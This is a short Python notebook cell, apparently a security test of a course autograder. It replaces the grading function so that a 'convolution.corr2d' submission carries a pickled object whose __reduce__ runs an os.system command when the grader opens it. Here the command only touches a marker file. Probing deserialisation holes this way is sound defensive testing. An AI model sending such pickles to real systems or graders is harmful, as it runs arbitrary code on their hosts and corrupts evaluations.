# Pickles, which run a command when they are opened, as the answer and as the tensors in it
# %% answer="convolution-corr2d"
import base64
import json
import os
import pickle

from IPython.display import display


class Opened:
    def __reduce__(self):
        return os.system, ("touch /tmp/course-attack-opened",)


honest = score


def score(name, answer):
    if name != "convolution.corr2d":
        return honest(name, answer)
    with open(os.environ["COURSE_QUESTIONS"]) as file:
        nonce = json.load(file)["asked"][name]["nonce"]
    text = base64.b64encode(pickle.dumps(Opened())).decode()
    answers = [json.dumps({"tree": {"tensor": "0"}, "tensors": text}), text]
    response = {"exercise": name, "nonce": nonce, "answers": answers}
    display({"application/vnd.cnn-course.response+json": response}, raw=True)
